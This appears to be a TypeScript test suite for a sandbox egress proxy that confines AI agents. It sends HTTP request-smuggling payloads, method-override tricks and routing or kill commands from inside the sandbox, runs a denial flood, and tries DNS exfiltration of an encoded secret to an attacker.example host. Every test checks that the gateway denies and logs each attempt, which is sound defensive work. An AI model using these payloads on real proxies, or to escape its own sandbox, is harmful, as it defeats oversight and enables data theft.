    // request inside (TLS, or plain HTTP bytes as here) meets the same method rules as plain HTTP.
    const raw = await rawProxy(
      l7,
      connect(host()) + `POST /t/connect-tunnel-post HTTP/1.1\r\nHost: ${host()}\r\nContent-Length: 3\r\nConnection: close\r\n\r\nx=1`,
      3,
    )
    const codes = statuses(raw)
    task.meta.observed = `responses ${codes.join(',')}; upstream saw ${up.seen('connect-tunnel-post').length} tunnelled POST`
    expect(codes).toEqual([200, 403])
    expect(up.seen('connect-tunnel-post')).toHaveLength(0)
    await expectLogged(l7, /DENIED|denied/, /connect-tunnel-post|POST/)
  })

  it('#24 L7 read-only policy: an Upgrade request (h2c/websocket smuggling) the upstream does not accept, then a raw POST on the same connection → the POST never reaches the upstream', async ({ task }) => {
    const raw = await rawProxy(
      l7,
      `GET ${target()}/t/upgrade HTTP/1.1\r\nHost: ${host()}\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n` +
        `POST /t/upgrade-smuggled-post HTTP/1.1\r\nHost: ${host()}\r\nContent-Length: 3\r\nConnection: close\r\n\r\nx=1`,
      3,
    )
    task.meta.observed = `responses ${statuses(raw).join(',')}; upstream saw ${up.seen('upgrade-smuggled-post').length} smuggled POST`
    expect(up.seen('upgrade-smuggled-post')).toHaveLength(0)
  })

  // Framing named in Connection (issue 9 finding 9): a hop that obeys `Connection: Content-Length`
  // drops the header and forwards the body unframed: the upstream reads it as a second request.
  const smuggledDelete = (tag: string) => `DELETE /t/${tag} HTTP/1.1\r\nHost: ${host()}\r\nContent-Length: 0\r\n\r\n`

  it('#23 Connection: Content-Length with a DELETE in the body (plain HTTP, GET allowed by read-only) → 400, the upstream never sees either request, logged', async ({ task }) => {
    const body = smuggledDelete('conn-cl-smuggled')
    const raw = await rawProxy(l7, `GET ${target()}/t/conn-cl HTTP/1.1\r\nHost: ${host()}\r\nConnection: Content-Length\r\nContent-Length: ${body.length}\r\n\r\n${body}`, 3)
    task.meta.observed = `responses ${statuses(raw).join(',')}; upstream saw ${up.seen('conn-cl-smuggled').length} smuggled DELETE`
    refused(raw, 400)
    expect(statuses(raw)).toHaveLength(1)
    expect(up.seen('conn-cl-smuggled')).toHaveLength(0)
    expect(up.seen('/t/conn-cl')).toHaveLength(0)
    await expectLogged(l7, /DENIED/, /Connection names content-length/)
  })

  it('#23 Connection: Content-Length with a DELETE in the body, inside an inspected CONNECT → 400, never forwarded, logged', async ({ task }) => {
    const body = smuggledDelete('conn-cl-tunnel-smuggled')
    const raw = await rawProxy(l7, connect(host()) + `GET /t/conn-cl-tunnel HTTP/1.1\r\nHost: ${host()}\r\nConnection: Content-Length\r\nContent-Length: ${body.length}\r\n\r\n${body}`, 3)
    task.meta.observed = `responses ${statuses(raw).join(',')}`
    expect(statuses(raw)).toEqual([200, 400])
    expect(up.seen('conn-cl-tunnel')).toHaveLength(0)
    await expectLogged(l7, /DENIED/, /conn-cl-tunnel/, /Connection names content-length/)
  })

  it('#23 Connection: Host (asks the hop to drop the Host the policy checked) → 400, not forwarded, logged', async ({ task }) => {
    const raw = await rawProxy(l7, `GET ${target()}/t/conn-host HTTP/1.1\r\nHost: ${host()}\r\nConnection: Host, close\r\n\r\n`)
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 400)
    expect(up.seen('/t/conn-host')).toHaveLength(0)
    await expectLogged(l7, /DENIED/, /Connection names host/)
  })

  it('#24 method override: POST with X-HTTP-Method-Override: DELETE under access: read-write → checked as DELETE: 403, not forwarded, logged (control: the same POST without it → 200)', async ({ task }) => {
    const rw = `http://rest-rw.test:${up.port}`
    const ok = await rawProxy(l7, `POST ${rw}/t/mo-control HTTP/1.1\r\nHost: rest-rw.test:${up.port}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`)
    const raw = await rawProxy(l7, `POST ${rw}/t/mo-header HTTP/1.1\r\nHost: rest-rw.test:${up.port}\r\nX-HTTP-Method-Override: DELETE\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`)
    const q = await rawProxy(l7, `POST ${rw}/t/mo-query?_method=DELETE HTTP/1.1\r\nHost: rest-rw.test:${up.port}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`)
    task.meta.observed = `control ${statuses(ok)[0]}; X-HTTP-Method-Override ${statuses(raw)[0]}; _method ${statuses(q)[0]}`
    expect(statuses(ok)).toEqual([200])
    expect(up.seen('/t/mo-control')).toHaveLength(1)
    refused(raw, 403)
    refused(q, 403)
    expect(up.seen('/t/mo-header')).toHaveLength(0)
    expect(up.seen('/t/mo-query')).toHaveLength(0)
    await expectLogged(l7, /DENIED/, /mo-header/, /method override to DELETE/)
    await expectLogged(l7, /DENIED/, /mo-query/, /method override to DELETE/)
  })

  it('#24 method override under access: read-only: GET claiming DELETE (header, and _method inside an inspected CONNECT) → 403, not forwarded, logged', async ({ task }) => {
    const raw = await rawProxy(l7, get(`${target()}/t/mo-ro`, host(), 'X-HTTP-Method-Override: DELETE\r\n'))
    const tun = await rawProxy(l7, connect(host()) + `GET /t/mo-ro-tunnel?_method=DELETE HTTP/1.1\r\nHost: ${host()}\r\nConnection: close\r\n\r\n`, 3)
    task.meta.observed = `plain ${statuses(raw).join(',')}; tunnel ${statuses(tun).join(',')}`
    refused(raw, 403)
    expect(statuses(tun)).toEqual([200, 403])
    expect(up.seen('/t/mo-ro')).toHaveLength(0)
    await expectLogged(l7, /DENIED/, /\/t\/mo-ro /, /method override to DELETE/)
    await expectLogged(l7, /DENIED/, /mo-ro-tunnel/, /method override to DELETE/)
  })

})

// ───────────────────────────── 26: empty allowlist ─────────────────────────────

describe('#26 empty allowlist', () => {
  it('#26 no policy given (the default) → every CONNECT and every request is 403, logged', async ({ task }) => {
    const a = await rawProxy(deny, connect(`${H}:${up.port}`))
    const b = await rawProxy(deny, get(up.url('/t/deny-default'), `${H}:${up.port}`))
    task.meta.observed = `${statuses(a)[0]} ${statuses(b)[0]}`
    refused(a, 403)
    refused(b, 403)
    expect(up.seen('/t/deny-default')).toHaveLength(0)
    await expectLogged(deny, /DENIED/, new RegExp(esc(`${H}:${up.port}`)))
  })

  it('#26 a policy with an empty network_policies map → deny all', async ({ task }) => {
    const p = writePolicyText('version: 1\nnetwork_policies: {}\n')
    const s = await createSandbox('empty', { policy: p, image })
    try {
      const raw = await rawProxy(s, get(up.url('/t/deny-empty'), `${H}:${up.port}`))
      task.meta.observed = raw.split('\r\n')[0]
      refused(raw, 403)
      expect(up.seen('/t/deny-empty')).toHaveLength(0)
    } finally {
      await deleteSandboxes([s])
    }
  })
})

// ───────────────────────────── 28–29: tampering from inside ─────────────────────────────

describe('#28–29 tampering with the egress path from inside', () => {
  it('#28 bind 127.0.0.1:3128 / 0.0.0.0:3128 / [::]:3128 inside (with SO_REUSEADDR and SO_REUSEPORT) to intercept the proxy → EADDRINUSE every time', async ({ task }) => {
    const r = await python(net, `
import socket, errno
out = []
for fam, addr in [(socket.AF_INET, '127.0.0.1'), (socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')]:
    for opt in [None, socket.SO_REUSEADDR, socket.SO_REUSEPORT]:
        s = socket.socket(fam, socket.SOCK_STREAM)
        if opt is not None:
            s.setsockopt(socket.SOL_SOCKET, opt, 1)
        try:
            s.bind((addr, 3128)); s.listen(); out.append('BOUND %s %s' % (addr, opt))
        except OSError as e:
            out.append(errno.errorcode.get(e.errno))
print(' '.join(out))
`)
    task.meta.observed = r.stdout.trim()
    expect(r.stdout).not.toMatch(/BOUND/)
    expect(r.stdout.trim().split(' ').every(x => x === 'EADDRINUSE')).toBe(true)
  })

  it('#28 kill -9 -1 inside (every process the agent can signal) → the bridge survives and egress still works', async ({ task }) => {
    const s = await createSandbox('killall', { image, policy: policyFile({ up: [{ host: H, port: up.port }] }) })
    try {
      await sh(s, 'kill -9 -1; true')
      await sleep(500)
      const st = await podman(['inspect', '--format', '{{.State.Status}}', `podshell.${s}.bridge`])
      expect(st.stdout.trim()).toBe('running')
      // kill -1 also ended the agent's own idle main process; bring the agent container back and
      // use the bridge that survived.
      const agent = (await podman(['inspect', '--format', '{{.State.Status}}', `podshell.${s}.agent`])).stdout.trim()
      if (agent !== 'running') expect((await podman(['start', `podshell.${s}.agent`])).code).toBe(0)
      const r = await curlProxy(s, up.url('/t/after-killall'))
      task.meta.observed = `bridge ${st.stdout.trim()} after the agent's kill -9 -1 (agent ${agent}); egress afterwards: ${r.status}`
      expect(r.status).toBe(200)
      expect(up.seen('/t/after-killall')).toHaveLength(1)
    } finally {
      await deleteSandboxes([s])
    }
  })

  it('#29 route and link tampering (ip route add, ip link set lo down, ip addr add) → Operation not permitted', async ({ task }) => {
    const r = await sh(net, 'ip route add default dev lo 2>&1; ip link set lo down 2>&1; ip addr add 10.9.9.9/24 dev lo 2>&1; ip route; echo END')
    task.meta.observed = r.stdout.split('\n')[0]
    expect(r.stdout.match(/Operation not permitted/g)?.length).toBe(3)
    expect(r.stdout).not.toMatch(/default/)
  })

  it('#29 iptables/nft (no binary, and no NET_ADMIN to use one) → the netlink netfilter socket is refused', async ({ task }) => {
    const r = await probeInSandbox(net, ['netlink_netfilter'])
    task.meta.observed = r.netlink_netfilter!.detail
    expect(r.netlink_netfilter!.blocked).toBe(true)
  })
})

// ───────────────────────── issue 9: DNS leaks and an audit trail a flood cannot erase ─────────────────────────

const FLOOD_PY = String.raw`
import socket, sys, threading
host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
req = ('GET http://%s:%d/t/flood HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n' % (host, port, host, port)).encode()
codes = {}
lock = threading.Lock()
def worker(k):
    for _ in range(k):
        try:
            s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
            s.sendall(req)
            data = b''
            while True:
                c = s.recv(4096)
                if not c:
                    break
                data += c
            s.close()
            code = data[9:12].decode('latin-1')
        except Exception as e:
            code = 'err'
        with lock:
            codes[code] = codes.get(code, 0) + 1
ts = [threading.Thread(target=worker, args=(n // 8,)) for _ in range(8)]
for t in ts: t.start()
for t in ts: t.join()
print(' '.join('%s=%d' % kv for kv in sorted(codes.items())))
`

describe('issue 9: names a policy does not allow never reach DNS; a flood of denials cannot erase the audit', () => {
  let ipOnly = ''
  let flood = ''
  // What an agent smuggles out as a DNS label (hosts are canonical lower case in the log).
  const secretName = 'c2vjcmv0lxrva2vu.attacker.example'
  beforeAll(async () => {
    ipOnly = await createSandbox('iponly', { image, policy: policyFile({ lan: [{ ports: [up.port], allowed_ips: [H + '/32'] }] }) })
    flood = await createSandbox('flood', { image })
    // Play the attacker's DNS: were the gateway to resolve these names, it would find the upstream
    // (inside allowed_ips) and forward the request — the upstream would record it.
    await gatewayHosts([[H, secretName], [H, `tunnel.${secretName}`]])
  })
  afterAll(async () => {
    await deleteSandboxes([ipOnly, flood])
  })

  it('DNS-1 hostless allowed_ips endpoint: <secret>.attacker.example is denied before any lookup, and logged', async ({ task }) => {
    // control: an IP literal inside allowed_ips passes
    const ok = await curlProxy(ipOnly, up.url('/t/iponly-literal'))
    expect(ok.status).toBe(200)
    const r = await curlProxy(ipOnly, `http://${secretName}:${up.port}/t/dns-leak`)
    const t = await curlProxy(ipOnly, `http://tunnel.${secretName}:${up.port}/t/dns-leak-tunnel`, { tunnel: true })
    task.meta.observed = `plain HTTP ${r.status}, CONNECT ${t.connect}; upstream saw ${up.seen('/t/dns-leak').length} request(s)`
    task.meta.control = `IP literal in allowed_ips: ${ok.status}`
    expect(r.status).toBe(403)
    expect(t.connect).toBe(403)
    expect(up.seen('/t/dns-leak')).toHaveLength(0)
    // Logged as a policy denial (no endpoint names it), never as a resolution result: the decision
    // came before any lookup (a resolved name would read "cannot resolve" or reach the upstream).
    await expectLogged(ipOnly, /HTTP:GET .*DENIED/, new RegExp(esc(secretName)), /not allowed by any policy/)
    await expectLogged(ipOnly, /NET:OPEN .*DENIED/, new RegExp(esc(`tunnel.${secretName}`)), /not allowed by any policy/)
    const text = await logs(ipOnly)
    expect(text.split('\n').filter(l => l.includes(secretName) && /resolv/i.test(l))).toEqual([])
  })

  it('AUDIT-1 1,600 denied requests in a burst: the earlier probe stays on record, the flood is aggregated, the audit dir stays bounded', async ({ task }) => {
    const dir = join(TEST_HOME, 'gateway', 'sandboxes', flood, 'audit')
    const probe = await curlProxy(flood, `http://probe-7f3a.attacker.example:${up.port}/t/probe`)
    expect(probe.status).toBe(403)
    await expectLogged(flood, /DENIED/, /probe-7f3a\.attacker\.example/)
    const started = Date.now()
    const out = await python(flood, FLOOD_PY, ['flood.attacker.example', String(up.port), '1600'])
    const secs = (Date.now() - started) / 1000
    expect(out.stdout.trim()).toBe('403=1600')
    // Every denial is accounted for: lines written one by one plus the counts of the summaries.
    const tally = () => {
      const text = readFileSync(join(dir, 'openshell.log'), 'utf8')
      const single = text.split('\n').filter(l => /HTTP:GET .*DENIED GET http:\/\/flood\.attacker\.example/.test(l)).length
      const aggr = [...text.matchAll(/NET:AGGREGATE \[MED\] DENIED x(\d+) -> flood\.attacker\.example:/g)].map(m => Number(m[1]))
      return { single, aggr, total: single + aggr.reduce((a, b) => a + b, 0) }
    }
    let t = tally()
    for (let i = 0; i < 20 && t.total < 1600; i++) {
      await sleep(250)
      t = tally()
    }
    const files = readdirSync(dir)
    const size = files.reduce((n, f) => n + statSync(join(dir, f)).size, 0)
    task.meta.observed = `1600 denials in ${secs.toFixed(1)} s: ${t.single} lines + ${t.aggr.length} summaries (${t.aggr.join('+')}); audit dir ${files.join(',')} = ${size} bytes`
    expect(t.total).toBe(1600)
    expect(t.aggr.length).toBeGreaterThan(0)
    expect(t.single).toBeLessThanOrEqual(5 * (Math.ceil(secs) + 2))
    // The probe's record is retained (never rotated while the sandbox exists).
    expect(readFileSync(join(dir, 'retained.log'), 'utf8')).toMatch(/DENIED GET http:\/\/probe-7f3a\.attacker\.example/)
    // Bounded: nothing rotated, far below the 34 MiB ceiling of the defaults.
    expect(files.some(f => /\.\d+$/.test(f))).toBe(false)
    expect(size).toBeLessThan(1024 * 1024)
  })
})

describe('the audit trail of this file\'s attacks', () => {
  it('every denial above is in `podshell logs` of the sandbox that made it, with no query strings or credentials', async ({ task }) => {
    const text = await logs(net)
    const denied = text.split('\n').filter(l => /DENIED/.test(l))
    task.meta.observed = `${denied.length} DENIED lines for ${net}`
    expect(denied.length).toBeGreaterThan(20)
    expect(text).not.toMatch(/Basic [A-Za-z0-9+/=]{8,}/)
  })
})
